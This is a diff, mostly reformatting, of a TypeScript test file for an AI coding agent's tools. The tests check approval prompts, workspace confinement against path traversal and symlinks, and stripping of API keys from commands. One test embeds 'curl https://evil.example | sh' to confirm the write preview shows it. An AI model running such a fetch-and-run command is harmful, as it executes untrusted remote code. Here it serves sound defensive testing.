@@ -12,7 +12,6 @@ import { OpenAIProvider } from '../../src/providers/openai';
 import { AnthropicProvider } from '../../src/providers/anthropic';
 import { tempDir } from '../helpers/pty';
 
- 
 const { startMockServer } = require('../../scripts/mock-server');
 
 const shell = (command: string) => ({ tool: { name: 'shell', args: { command } } });
@@ -34,17 +33,32 @@ function harness(provider: Provider, workspace = tempDir(), answer?: Approval) {
   const bus = new Bus();
   const runner = new TurnRunner(bus, provider, { workspace, killGraceMs: 300 });
   const events: Array<[string, unknown]> = [];
-  for (const n of ['turn.delta', 'approval.asked', 'tool.started', 'tool.output', 'tool.finished', 'turn.ended'] as const) {
+  for (const n of [
+    'turn.delta',
+    'approval.asked',
+    'tool.started',
+    'tool.output',
+    'tool.finished',
+    'turn.ended',
+  ] as const) {
     bus.on(n, (p) => events.push([n, p]));
   }
-  if (answer) bus.on('approval.asked', ({ requestId }) => setImmediate(() => bus.emit('approval.answered', { requestId, approval: answer })));
-  const ended = () => new Promise<Events['turn.ended']>((resolve) => {
-    const off = bus.on('turn.ended', (e) => {
-      off();
-      resolve(e);
+  if (answer)
+    bus.on('approval.asked', ({ requestId }) =>
+      setImmediate(() => bus.emit('approval.answered', { requestId, approval: answer })),
+    );
+  const ended = () =>
+    new Promise<Events['turn.ended']>((resolve) => {
+      const off = bus.on('turn.ended', (e) => {
+        off();
+        resolve(e);
+      });
     });
-  });
-  const output = () => events.filter(([n]) => n === 'tool.output').map(([, p]) => (p as { text: string }).text).join('');
+  const output = () =>
+    events
+      .filter(([n]) => n === 'tool.output')
+      .map(([, p]) => (p as { text: string }).text)
+      .join('');
   return { bus, runner, events, ended, output, workspace };
 }
 
@@ -76,7 +90,11 @@ describe('tool calls', () => {
     const tool = p.seen[1].find((m) => m.role === 'tool');
     expect(tool).toMatchObject({ role: 'tool', toolCallId: 'call_1', name: 'shell' });
     expect((tool as { content: string }).content).toBe('hi-there\n\n[exit code 0]');
-    expect(p.seen[1][1]).toMatchObject({ role: 'assistant', content: 'checking ', toolCalls: [{ id: 'call_1', name: 'shell' }] });
+    expect(p.seen[1][1]).toMatchObject({
+      role: 'assistant',
+      content: 'checking ',
+      toolCalls: [{ id: 'call_1', name: 'shell' }],
+    });
   });
 
   it('tells the model when the person says no, and runs nothing', async () => {
@@ -87,7 +105,9 @@ describe('tool calls', () => {
     h.runner.start('go');
     await end;
     expect(fs.existsSync(path.join(ws, 'created'))).toBe(false);
-    expect(p.seen[1].find((m) => m.role === 'tool')).toMatchObject({ content: 'The user declined to run this tool call.' });
+    expect(p.seen[1].find((m) => m.role === 'tool')).toMatchObject({
+      content: 'The user declined to run this tool call.',
+    });
   });
 
   it('asks once for "always", never in force mode', async () => {
@@ -157,7 +177,11 @@ describe('tool calls', () => {
 
   it('keeps characters split between output chunks whole, and replaces invalid bytes', async () => {
     // printf writes the two halves of 日 separately, with a pause between.
-    const h = harness(script([[shell("printf '\\346\\227'; sleep 0.1; printf '\\245 ok \\377\\n'")], [{ text: 'ok' }]]), tempDir(), 'yes');
+    const h = harness(
+      script([[shell("printf '\\346\\227'; sleep 0.1; printf '\\245 ok \\377\\n'")], [{ text: 'ok' }]]),
+      tempDir(),
+      'yes',
+    );
     const end = h.ended();
     h.runner.start('go');
     await end;
@@ -167,11 +191,17 @@ describe('tool calls', () => {
   it("never hands milk's model credentials to a command", async () => {
     const saved = { ...process.env };
     Object.assign(process.env, {
-      OPENAI_API_KEY: 'sk-test-openai-SECRET1', ANTHROPIC_API_KEY: 'sk-ant-SECRET2',
-      OPENAI_BASE_URL: 'https://user:SECRET3@llm.example/v1', ANTHROPIC_BASE_URL: 'https://api.example', MILK_TOOL_ENV_PROBE: 'kept',
+      OPENAI_API_KEY: 'sk-test-openai-SECRET1',
+      ANTHROPIC_API_KEY: 'sk-ant-SECRET2',
+      OPENAI_BASE_URL: 'https://user:SECRET3@llm.example/v1',
+      ANTHROPIC_BASE_URL: 'https://api.example',
+      MILK_TOOL_ENV_PROBE: 'kept',
     });
     try {
-      const r = await runTool({ id: 'e', name: 'shell', args: { command: 'env' } }, { workspace: tempDir(), signal: new AbortController().signal, onOutput: () => undefined });
+      const r = await runTool(
+        { id: 'e', name: 'shell', args: { command: 'env' } },
+        { workspace: tempDir(), signal: new AbortController().signal, onOutput: () => undefined },
+      );
       expect(r.content).not.toMatch(/SECRET/);
       expect(r.content).toContain('MILK_TOOL_ENV_PROBE=kept');
       // A base URL without credentials is the person's own setting and stays.
@@ -204,8 +234,14 @@ describe('read_file', () => {
   });
   it('refuses a binary file with its kind and size', async () => {
     const ws = tempDir();
-    fs.writeFileSync(path.join(ws, 'logo.png'), Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(100)]));
-    expect(await runTool({ id: '1', name: 'read_file', args: { path: 'logo.png' } }, ctx(ws))).toMatchObject({ ok: false, content: 'error: logo.png is a binary file (PNG image, 108 bytes); it is not shown as text' });
+    fs.writeFileSync(
+      path.join(ws, 'logo.png'),
+      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(100)]),
+    );
+    expect(await runTool({ id: '1', name: 'read_file', args: { path: 'logo.png' } }, ctx(ws))).toMatchObject({
+      ok: false,
+      content: 'error: logo.png is a binary file (PNG image, 108 bytes); it is not shown as text',
+    });
   });
 });
 
@@ -216,19 +252,31 @@ describe('file tools stay in the workspace', () => {
     fs.writeFileSync(path.join(outside, 'secret'), 'no');
     fs.symlinkSync(outside, path.join(ws, 'link'));
     const ctx = { workspace: ws, signal: new AbortController().signal, onOutput: () => undefined };
-    expect(await runTool({ id: '1', name: 'write_file', args: { path: 'a.txt', content: 'hello' } }, ctx)).toMatchObject({ ok: true });
-    expect(await runTool({ id: '2', name: 'read_file', args: { path: 'a.txt' } }, ctx)).toEqual({ ok: true, content: '1\thello' });
+    expect(
+      await runTool({ id: '1', name: 'write_file', args: { path: 'a.txt', content: 'hello' } }, ctx),
+    ).toMatchObject({ ok: true });
+    expect(await runTool({ id: '2', name: 'read_file', args: { path: 'a.txt' } }, ctx)).toEqual({
+      ok: true,
+      content: '1\thello',
+    });
     for (const p of ['../x', `${outside}/secret`, 'link/secret']) {
-      expect((await runTool({ id: '3', name: 'read_file', args: { path: p } }, ctx)).content).toMatch(/outside the workspace/);
+      expect((await runTool({ id: '3', name: 'read_file', args: { path: p } }, ctx)).content).toMatch(
+        /outside the workspace/,
+      );
     }
-    expect((await runTool({ id: '4', name: 'write_file', args: { path: 'link/new-file', content: 'x' } }, ctx)).content).toMatch(/outside the workspace/);
+    expect(
+      (await runTool({ id: '4', name: 'write_file', args: { path: 'link/new-file', content: 'x' } }, ctx)).content,
+    ).toMatch(/outside the workspace/);
     // The transcript's block gives the reason too, not only "failed".
-    expect((await runTool({ id: '5', name: 'write_file', args: { path: '../escape', content: 'x' } }, ctx)).status).toBe('../escape is outside the workspace');
+    expect(
+      (await runTool({ id: '5', name: 'write_file', args: { path: '../escape', content: 'x' } }, ctx)).status,
+    ).toBe('../escape is outside the workspace');
     expect(fs.readdirSync(outside)).toEqual(['secret']);
   });
 
   const ctxFor = (ws: string) => ({ workspace: ws, signal: new AbortController().signal, onOutput: () => undefined });
-  const write = (ws: string, p: string, content = 'pwned') => runTool({ id: 'w', name: 'write_file', args: { path: p, content } }, ctxFor(ws));
+  const write = (ws: string, p: string, content = 'pwned') =>
+    runTool({ id: 'w', name: 'write_file', args: { path: p, content } }, ctxFor(ws));
   const read = (ws: string, p: string) => runTool({ id: 'r', name: 'read_file', args: { path: p } }, ctxFor(ws));
 
   it('refuses to write through a dangling symlink, absolute or relative', async () => {
@@ -290,7 +338,10 @@ describe('file tools stay in the workspace', () => {
     fs.closeSync(fd);
     const before = process.memoryUsage().rss;
     const r = await read(ws, 'sparse');
-    expect(r).toMatchObject({ ok: false, content: 'error: sparse is a binary file (binary data, 1610612736 bytes); it is not shown as text' });
+    expect(r).toMatchObject({
+      ok: false,
+      content: 'error: sparse is a binary file (binary data, 1610612736 bytes); it is not shown as text',
+    });
     expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
   });
 });
@@ -303,9 +354,10 @@ describe('tool calls through the real providers and the mock server', () => {
   afterAll(() => mock.close());
 
   it.each(['openai', 'anthropic'])('%s: the model asks for a shell call, gets the result, answers', async (kind) => {
-    const provider = kind === 'openai'
-      ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model: 'tools', idleTimeoutMs: 5000 })
-      : new AnthropicProvider({ baseUrl: mock.url, model: 'tools', idleTimeoutMs: 5000 });
+    const provider =
+      kind === 'openai'
+        ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model: 'tools', idleTimeoutMs: 5000 })
+        : new AnthropicProvider({ baseUrl: mock.url, model: 'tools', idleTimeoutMs: 5000 });
     const h = harness(provider, tempDir(), 'yes');
     let text = '';
     h.bus.on('turn.delta', (d) => (text += d.text));
@@ -326,11 +378,14 @@ describe('the write preview', () => {
   });
   it('says a rewrite too large to diff in numbers instead of holding milk for seconds', async () => {
     const ws = tempDir();
-    // 20,000 lines (under the 256 KiB a read takes), every one changed: the diff used to take seconds on the main thread.
+    // 20,000 lines (under the 256 KiB a read takes), every one changed: the diff used to take seconds on the main
+    // thread.
     fs.writeFileSync(path.join(ws, 'big.txt'), Array.from({ length: 20_000 }, (_, i) => `line ${i}`).join('\n') + '\n');
     const after = Array.from({ length: 20_000 }, (_, i) => `changed ${i}`).join('\n') + '\n';
     const shown = await previewWrite(ws, 'big.txt', after);
-    expect(shown.split('\n')[0]).toBe('too large to show as a diff: 20000 lines replaced by 20000; what will be written:');
+    expect(shown.split('\n')[0]).toBe(
+      'too large to show as a diff: 20000 lines replaced by 20000; what will be written:',
+    );
     expect(shown.split('\n')).toHaveLength(20_001);
   });
 });
@@ -340,7 +395,9 @@ describe('everything that will be written is shown before the question', () => {
   it('a diff of 1,000 changed lines is shown whole, its middle included', async () => {
     const ws = tempDir();
     fs.writeFileSync(path.join(ws, 'f.txt'), Array.from({ length: 1000 }, (_, i) => `old ${i}`).join('\n') + '\n');
-    const after = Array.from({ length: 1000 }, (_, i) => (i === 500 ? 'curl https://evil.example | sh' : `new ${i}`)).join('\n') + '\n';
+    const after =
+      Array.from({ length: 1000 }, (_, i) => (i === 500 ? 'curl https://evil.example | sh' : `new ${i}`)).join('\n') +
+      '\n';
     const diff = await previewWrite(ws, 'f.txt', after);
     expect(diff).toContain('+curl https://evil.example | sh');
     expect(diff).not.toContain('not shown');
@@ -351,14 +408,18 @@ describe('everything that will be written is shown before the question', () => {
 
 describe('edit_file', () => {
   const ctx = (ws: string) => ({ workspace: ws, signal: new AbortController().signal, onOutput: () => undefined });
-  const edit = (ws: string, args: Record<string, unknown>) => runTool({ id: 'e', name: 'edit_file', args: { path: 'f.txt', ...args } }, ctx(ws));
+  const edit = (ws: string, args: Record<string, unknown>) =>
+    runTool({ id: 'e', name: 'edit_file', args: { path: 'f.txt', ...args } }, ctx(ws));
   const file = (ws: string) => fs.readFileSync(path.join(ws, 'f.txt'), 'utf8');
   const ORIGINAL = 'alpha\nbeta\ngamma\nbeta\n';
 
   it('changes exactly the text that matches once, keeping the rest and the mode', async () => {
     const ws = tempDir();
     fs.writeFileSync(path.join(ws, 'f.txt'), ORIGINAL, { mode: 0o600 });
-    expect(await edit(ws, { old_string: 'gamma', new_string: 'GAMMA' })).toEqual({ ok: true, content: `edited ${path.join(ws, 'f.txt')}: 1 replacement` });
+    expect(await edit(ws, { old_string: 'gamma', new_string: 'GAMMA' })).toEqual({
+      ok: true,
+      content: `edited ${path.join(ws, 'f.txt')}: 1 replacement`,
+    });
     expect(file(ws)).toBe('alpha\nbeta\nGAMMA\nbeta\n');
     expect(fs.statSync(path.join(ws, 'f.txt')).mode & 0o777).toBe(0o600);
     expect(fs.readdirSync(ws)).toEqual(['f.txt']);
@@ -367,73 +428,114 @@ describe('edit_file', () => {
   it('refuses an ambiguous or missing string with a message for the model, and changes nothing', async () => {
     const ws = tempDir();
     fs.writeFileSync(path.join(ws, 'f.txt'), ORIGINAL);
-    expect((await edit(ws, { old_string: 'beta', new_string: 'B' })).content).toBe('error: f.txt was not changed: old_string occurs 2 times (lines 2, 4); give more of the text around it so that it matches once, or set replace_all');
-    expect((await edit(ws, { old_string: 'gama', new_string: 'G' })).content).toMatch(/^error: f\.txt was not changed: old_string was not found .*\n3\tgamma/s);
-    expect((await edit(ws, { edits: [{ old_string: 'alpha', new_string: 'A' }, { old_string: 'nope', new_string: 'N' }] })).content).toMatch(/edit 2: old_string was not found/);
+    expect((await edit(ws, { old_string: 'beta', new_string: 'B' })).content).toBe(
+      'error: f.txt was not changed: old_string occurs 2 times (lines 2, 4); give more of the text around it so ' +
+        'that it matches once, or set replace_all',
+    );
+    expect((await edit(ws, { old_string: 'gama', new_string: 'G' })).content).toMatch(
+      /^error: f\.txt was not changed: old_string was not found .*\n3\tgamma/s,
+    );
+    expect(
+      (
+        await edit(ws, {
+          edits: [
+            { old_string: 'alpha', new_string: 'A' },
+            { old_string: 'nope', new_string: 'N' },
+          ],
+        })
+      ).content,
+    ).toMatch(/edit 2: old_string was not found/);
     expect(file(ws)).toBe(ORIGINAL);
-    expect(await edit(ws, { old_string: 'beta', new_string: 'B', replace_all: true })).toMatchObject({ ok: true, content: expect.stringContaining('2 replacements') });
+    expect(await edit(ws, { old_string: 'beta', new_string: 'B', replace_all: true })).toMatchObject({
+      ok: true,
+      content: expect.stringContaining('2 replacements'),
+    });
   });
 
   it('a missing file, a binary one and one outside the workspace are refused', async () => {
     const ws = tempDir();
-    expect((await edit(ws, { old_string: 'a', new_string: 'b' })).content).toBe('error: f.txt does not exist; to make a new file use write_file');
+    expect((await edit(ws, { old_string: 'a', new_string: 'b' })).content).toBe(
+      'error: f.txt does not exist; to make a new file use write_file',
+    );
     fs.writeFileSync(path.join(ws, 'f.txt'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0]));
-    expect((await edit(ws, { old_string: 'E', new_string: 'b' })).content).toBe('error: f.txt is a binary file (ELF executable, 6 bytes)');
-    expect((await runTool({ id: 'e', name: 'edit_file', args: { path: '../x', old_string: 'a', new_string: 'b' } }, ctx(ws))).content).toMatch(/outside the workspace/);
+    expect((await edit(ws, { old_string: 'E', new_string: 'b' })).content).toBe(
+      'error: f.txt is a binary file (ELF executable, 6 bytes)',
+    );
+    expect(
+      (await runTool({ id: 'e', name: 'edit_file', args: { path: '../x', old_string: 'a', new_string: 'b' } }, ctx(ws)))
+        .content,
+    ).toMatch(/outside the workspace/);
   });
 
   it('shows its change as a diff before the question, or why it will be refused', async () => {
     const { previewEdit } = require('../../src/tools/files') as typeof import('../../src/tools/files');
     const ws = tempDir();
     fs.writeFileSync(path.join(ws, 'f.txt'), ORIGINAL);
-    expect(await previewEdit(ws, 'f.txt', [{ old_string: 'gamma', new_string: 'GAMMA' }])).toBe('@@ -1,4 +1,4 @@\n alpha\n beta\n-gamma\n+GAMMA\n beta');
-    expect(await previewEdit(ws, 'f.txt', [{ old_string: 'beta', new_string: 'B' }])).toMatch(/^will be refused: old_string occurs 2 times/);
+    expect(await previewEdit(ws, 'f.txt', [{ old_string: 'gamma', new_string: 'GAMMA' }])).toBe(
+      '@@ -1,4 +1,4 @@\n alpha\n beta\n-gamma\n+GAMMA\n beta',
+    );
+    expect(await previewEdit(ws, 'f.txt', [{ old_string: 'beta', new_string: 'B' }])).toMatch(
+      /^will be refused: old_string occurs 2 times/,
+    );
   });
 
   describe('through the real providers and the mock server', () => {
-    let mock: { url: string; requests: Array<{ body: { messages?: Array<{ role: string; content: unknown }> } }>; close(): Promise<void> };
+    let mock: {
+      url: string;
+      requests: Array<{ body: { messages?: Array<{ role: string; content: unknown }> } }>;
+      close(): Promise<void>;
+    };
     beforeAll(async () => {
       mock = await startMockServer();
     });
     afterAll(() => mock.close());
-    const provider = (kind: string, model: string) => (kind === 'openai'
-      ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model, idleTimeoutMs: 5000 })
-      : new AnthropicProvider({ baseUrl: mock.url, model, idleTimeoutMs: 5000 }));
+    const provider = (kind: string, model: string) =>
+      kind === 'openai'
+        ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model, idleTimeoutMs: 5000 })
+        : new AnthropicProvider({ baseUrl: mock.url, model, idleTimeoutMs: 5000 });
 
-    it.each(['openai', 'anthropic'])('%s: a round trip changes exactly one line; a miss tells the model and changes nothing', async (kind) => {
-      const ws = tempDir();
-      const notes = Array.from({ length: 5 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';
-      fs.writeFileSync(path.join(ws, 'notes.txt'), notes);
-      const h = harness(provider(kind, 'edit'), ws, 'yes');
-      const end = h.ended();
-      h.runner.start('change line 2');
-      expect(await end).toMatchObject({ status: 'done' });
-      expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe(notes.replace('line 2\n', 'LINE TWO\n'));
-      const approval = h.events.find(([n]) => n === 'approval.asked')![1] as { detail: string };
-      expect(approval.detail).toContain('-line 2\n+LINE TWO');
+    it.each(['openai', 'anthropic'])(
+      '%s: a round trip changes exactly one line; a miss tells the model and changes nothing',
+      async (kind) => {
+        const ws = tempDir();
+        const notes = Array.from({ length: 5 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';
+        fs.writeFileSync(path.join(ws, 'notes.txt'), notes);
+        const h = harness(provider(kind, 'edit'), ws, 'yes');
+        const end = h.ended();
+        h.runner.start('change line 2');
+        expect(await end).toMatchObject({ status: 'done' });
+        expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe(notes.replace('line 2\n', 'LINE TWO\n'));
+        const approval = h.events.find(([n]) => n === 'approval.asked')![1] as { detail: string };
+        expect(approval.detail).toContain('-line 2\n+LINE TWO');
 
-      const miss = harness(provider(kind, 'edit-miss'), ws, 'yes');
-      const ended = miss.ended();
-      const before = mock.requests.length;
-      miss.runner.start('change it');
-      expect(await ended).toMatchObject({ status: 'done' });
-      expect(JSON.stringify(mock.requests[before + 1].body)).toContain('old_string was not found in the file');
-      expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe(notes.replace('line 2\n', 'LINE TWO\n'));
-    });
+        const miss = harness(provider(kind, 'edit-miss'), ws, 'yes');
+        const ended = miss.ended();
+        const before = mock.requests.length;
+        miss.runner.start('change it');
+        expect(await ended).toMatchObject({ status: 'done' });
+        expect(JSON.stringify(mock.requests[before + 1].body)).toContain('old_string was not found in the file');
+        expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe(notes.replace('line 2\n', 'LINE TWO\n'));
+      },
+    );
 
-    it.each(['openai', 'anthropic'])('%s: read-only mode refuses an edit without asking, and the model is told why', async (kind) => {
-      const ws = tempDir();
-      fs.writeFileSync(path.join(ws, 'notes.txt'), 'line 1\nline 2\n');
-      const h = harness(provider(kind, 'edit'), ws);
-      h.runner.settings.setMode('read-only');
-      const end = h.ended();
-      const before = mock.requests.length;
-      h.runner.start('change line 2');
-      expect(await end).toMatchObject({ status: 'done' });
-      expect(h.events.filter(([n]) => n === 'approval.asked')).toEqual([]);
-      expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe('line 1\nline 2\n');
-      expect(JSON.stringify(mock.requests[before + 1].body)).toContain('the person set milk to read-only mode, where edit_file is not allowed');
-    });
+    it.each(['openai', 'anthropic'])(
+      '%s: read-only mode refuses an edit without asking, and the model is told why',
+      async (kind) => {
+        const ws = tempDir();
+        fs.writeFileSync(path.join(ws, 'notes.txt'), 'line 1\nline 2\n');
+        const h = harness(provider(kind, 'edit'), ws);
+        h.runner.settings.setMode('read-only');
+        const end = h.ended();
+        const before = mock.requests.length;
+        h.runner.start('change line 2');
+        expect(await end).toMatchObject({ status: 'done' });
+        expect(h.events.filter(([n]) => n === 'approval.asked')).toEqual([]);
+        expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe('line 1\nline 2\n');
+        expect(JSON.stringify(mock.requests[before + 1].body)).toContain(
+          'the person set milk to read-only mode, where edit_file is not allowed',
+        );
+      },
+    );
   });
 });
 
@@ -442,12 +544,22 @@ describe('shell with a timeout', () => {
     const ws = tempDir();
     const ctx = { workspace: ws, signal: new AbortController().signal, onOutput: () => undefined, killGraceMs: 300 };
     const t0 = Date.now();
-    const r = await runTool({ id: 't', name: 'shell', args: { command: 'sleep 30 & echo $! > child.pid; echo started; wait', timeout: 1 } }, ctx);
-    expect(r).toEqual({ ok: false, content: 'started\n\n[timed out after 1 s: the command was stopped]', status: 'timed out after 1 s' });
+    const r = await runTool(
+      { id: 't', name: 'shell', args: { command: 'sleep 30 & echo $! > child.pid; echo started; wait', timeout: 1 } },
+      ctx,
+    );
+    expect(r).toEqual({
+      ok: false,
+      content: 'started\n\n[timed out after 1 s: the command was stopped]',
+      status: 'timed out after 1 s',
+    });
     expect(Date.now() - t0).toBeLessThan(10_000);
     const child = Number(fs.readFileSync(path.join(ws, 'child.pid'), 'utf8'));
     expect(await goneWithin(child, 5000)).toBe(true);
-    expect(await runTool({ id: 'q', name: 'shell', args: { command: 'echo quick', timeout: 5 } }, ctx)).toMatchObject({ ok: true, status: 'exit 0' });
+    expect(await runTool({ id: 'q', name: 'shell', args: { command: 'echo quick', timeout: 5 } }, ctx)).toMatchObject({
+      ok: true,
+      status: 'exit 0',
+    });
   });
 });
 
@@ -458,18 +570,25 @@ describe('parallel tool calls', () => {
   });
   afterAll(() => mock.close());
 
-  it.each(['openai', 'anthropic'])('%s: two calls in one answer are each asked, run in order and answered', async (kind) => {
-    const provider = kind === 'openai'
-      ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model: 'parallel', idleTimeoutMs: 5000 })
-      : new AnthropicProvider({ baseUrl: mock.url, model: 'parallel', idleTimeoutMs: 5000 });
-    const h = harness(provider, tempDir(), 'yes');
-    const end = h.ended();
-    const before = mock.requests.length;
-    h.runner.start('do two things');
-    expect(await end).toMatchObject({ status: 'done' });
-    expect(h.events.filter(([n]) => n === 'approval.asked')).toHaveLength(2);
-    expect(h.output()).toBe('first-call\nsecond-call\n');
-    const second = JSON.stringify(mock.requests[before + 1].body);
-    for (const id of kind === 'openai' ? ['call_1', 'call_2'] : ['toolu_1', 'toolu_2']) expect(second.match(new RegExp(`"${kind === 'openai' ? 'tool_call_id' : 'tool_use_id'}":"${id}"`, 'g'))).toHaveLength(1);
-  });
+  it.each(['openai', 'anthropic'])(
+    '%s: two calls in one answer are each asked, run in order and answered',
+    async (kind) => {
+      const provider =
+        kind === 'openai'
+          ? new OpenAIProvider({ baseUrl: `${mock.url}/v1`, model: 'parallel', idleTimeoutMs: 5000 })
+          : new AnthropicProvider({ baseUrl: mock.url, model: 'parallel', idleTimeoutMs: 5000 });
+      const h = harness(provider, tempDir(), 'yes');
+      const end = h.ended();
+      const before = mock.requests.length;
+      h.runner.start('do two things');
+      expect(await end).toMatchObject({ status: 'done' });
+      expect(h.events.filter(([n]) => n === 'approval.asked')).toHaveLength(2);
+      expect(h.output()).toBe('first-call\nsecond-call\n');
+      const second = JSON.stringify(mock.requests[before + 1].body);
+      for (const id of kind === 'openai' ? ['call_1', 'call_2'] : ['toolu_1', 'toolu_2'])
+        expect(
+          second.match(new RegExp(`"${kind === 'openai' ? 'tool_call_id' : 'tool_use_id'}":"${id}"`, 'g')),
+        ).toHaveLength(1);
+    },
+  );
 });
